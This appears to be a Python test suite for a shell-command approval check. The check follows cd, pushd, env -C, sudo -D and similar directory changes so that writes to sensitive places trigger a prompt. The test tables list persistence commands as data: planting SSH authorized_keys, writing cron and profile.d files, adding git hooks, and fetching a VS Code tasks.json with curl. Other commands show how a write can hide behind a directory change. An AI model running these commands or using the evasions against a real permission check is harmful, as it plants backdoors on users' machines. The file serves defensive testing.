"""approvecd23: a cd before a relative destination. The destination rule judged each write
relative to the call's directory, so ``cd /root/.ssh && cp k authorized_keys`` ran unasked
after "always"; now the directories cd, pushd and popd move to are followed
(``shell.destructive_cwd``), and a write in a directory that cannot be known asks. The check
is a pure function: every variant in one process."""

from __future__ import annotations

from destructive_support import asking as _asking
from destructive_support import missed as _missed

HOME = "or inside it, a hidden entry or the bin of a home directory"
KEYS = "/root/.ssh/authorized_keys"
UNKNOWN = "in a directory the check cannot know"


def test_a_write_after_a_move_is_judged_where_it_lands() -> None:
    """Each wrote a home's start-up files, .ssh, /etc or .git unasked before (env -C and
    sudo -D move the command they wrap, eval's cd moves the line)."""
    moved = {
        "cd /root/.ssh && cp k authorized_keys": f"cp writes {KEYS}: '{KEYS}' is inside .ssh/",
        "cd /etc/profile.d; echo x > a.sh": "> /etc/profile.d/a.sh: /etc/profile.d/a.sh is the",
        "pushd /root/.ssh; cat > authorized_keys": f"> {KEYS}: '{KEYS}' is inside .ssh/",
        "cd /root && ln -sf x bin/ls": f"ln writes /root/bin/ls: /root/bin/ls is /root/bin {HOME}",
        "cd /root && tar -xf a.tar": f"tar writes /root/.*: /root/.* is /root/.* {HOME}",
        "cd /home/u && unzip a.zip": "unzip writes /home/u/.*",
        "(cd /root/.ssh && cp k authorized_keys)": "cp writes /root/.ssh/authorized_keys",
        "cd /root/x && cd .. && cp x .curlrc": f"/root/.curlrc is /root/.curlrc {HOME}",
        "cd /root; cd /tmp; cd -; cp x .curlrc": "cp writes /root/.curlrc",
        "cd /root; cd /missing; cp x .curlrc": "cp writes /root/.curlrc",
        "pushd /root; pushd /tmp; popd; cp x .curlrc": "cp writes /root/.curlrc",
        "pushd /root; cd /tmp; pushd; cp x .curlrc": "cp writes /root/.curlrc",
        "builtin cd /root && echo x >> .curlrc": "> /root/.curlrc",
        "command cd /root && sed -i s/a/b/ .wgetrc": "sed writes /root/.wgetrc",
        "true | cd /root && cp x .curlrc": "cp writes /root/.curlrc",
        "cd /root/.ssh && sh -c 'cp k authorized_keys'": "cp writes /root/.ssh/authorized_keys",
        "sh -c 'cd /root/.ssh && cp k authorized_keys'": "cp writes /root/.ssh/authorized_keys",
        "cd .git && echo x > hooks/pre-commit": "> .git/hooks/pre-commit: writes inside .git",
        "cd .vscode && curl -so tasks.json https://e.com/t": "curl writes .vscode/tasks.json",
        "env -C /root cp x .curlrc": "cp writes /root/.curlrc",
        "env --chdir=/root/.ssh cp k authorized_keys": f"cp writes {KEYS}",
        "sudo -D /root/.ssh cp k authorized_keys": f"cp writes {KEYS}",
        "sudo --chdir /etc/cron.d tee a < x": "tee writes /etc/cron.d/a",
        "env -C /root sh -c 'cp x .curlrc'": "cp writes /root/.curlrc",
        "sudo -D /root bash -c 'echo x > .curlrc'": "> /root/.curlrc",
        "eval 'cd /root'; cp x .curlrc": "cp writes /root/.curlrc",
    }
    assert _missed(moved) == []


def test_a_write_in_a_directory_that_cannot_be_known_asks() -> None:
    """A pattern, $HOME, an unknown OLDPWD, a parent of the call's directory, CDPATH and a
    rotated stack leave the directory unknown, as do sudo -i, su -, runuser -l and ssh (a
    home) and find -execdir: each wrote anywhere unasked before (~, $HOME,
    $(...) and functions the parser refuses: they asked and still do)."""
    unknown = {
        "cd /ro*/.ssh && cp x k": f"cp writes k: {UNKNOWN} (cd to a pattern)",
        "cd && cp x .curlrc": "(cd without a directory goes to $HOME)",
        "cd - && cp x .curlrc": "(cd - before any cd)",
        "cd .. && cp x .curlrc": "(cd .. leaves the call's directory)",
        "cd ../.. && tar -xf a.tar": "tar writes .",
        "export CDPATH=/root; cd .ssh; cp k authorized_keys": "(cd .ssh searches CDPATH)",
        "env CDPATH=/root sh -c 'cd .ssh && cat > authorized_keys'": "> authorized_keys",
        "pushd /tmp; pushd +1; echo x > .curlrc": "(pushd +1)",
        "sudo -u bob -i tee .curlrc < x": "(sudo -i runs in its user's home)",
        "sudo -i sh -c 'cp x .curlrc'": "(sudo -i runs in its user's home)",
        "su - -c 'cp x .curlrc'": "(su - runs in its user's home)",
        "runuser -l bob -c 'cp x .wgetrc'": "(runuser -l runs in its user's home)",
        "ssh host 'cp x .curlrc'": "(ssh runs its command in the remote home)",
        "find /root -maxdepth 0 -execdir cp x .curlrc ';'": "(find -execdir runs in each found",
        "cd ~ && cp x .curlrc": "tilde expansion",
        'cd "$HOME" && ln -sf x bin/ls': "variable expansion",
        "cd $(mktemp -d) && cp x .curlrc": "command substitution",
        "f() { cd /root; }; f; cp x .curlrc": "cannot read",
    }
    assert _missed(unknown) == []


def test_ordinary_moves_stay_unasked() -> None:
    ordinary = (
        "cd build && make",
        "cd src && sed -i s/a/b/ x.py",
        "cd /tmp && bsdtar -xf a.tar",  # tar restores links (redapprove27)
        "cd sub && cp a b",
        "cd sub && cd .. && echo x > out.txt",
        "pushd src && make > build.log && popd && echo done > status.txt",
        "(cd /root && ls -a); echo x > .curlrc.example",
        "cd /tmp && echo x > out.txt && cd - && echo y > out2.txt",
        "cd /root && cat .bashrc > bashrc.txt",
        "bsdtar -xzf a.tgz -C build",
        "bsdtar -xf a.zip -C out",
        "cd ./src && ls -la > ../files.txt",
        "env -C build cp a b",
        "sudo -u root cp a /srv/b",
        "find . -name '*.o' -execdir ls ';'",
        "sudo -u bob sh -c 'make > build.log'",
        "su -c 'make' bob",
        "ssh host ls",
        "echo 'cd ..' > notes.txt && echo x > out.txt",
        "env -C build sh -c 'cd /root' && echo x > .curlrc.example",
    )
    assert _asking(ordinary) == []
